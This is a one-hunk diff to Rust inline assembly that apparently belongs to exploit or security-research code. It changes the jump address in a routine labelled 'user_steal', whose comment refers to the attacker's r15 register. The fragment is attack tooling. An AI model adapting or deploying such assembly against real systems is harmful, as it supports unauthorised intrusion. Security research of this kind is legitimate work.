@@ -114,7 +114,7 @@ global_asm!(
     // answer as key and the attacker's r15.
     "user_steal:",
     "syscall",
-    "movabs rcx, 0x70000000004f",
+    "movabs rcx, 0x70000000004c",
     "jmp rcx",
     ".popsection",
 );
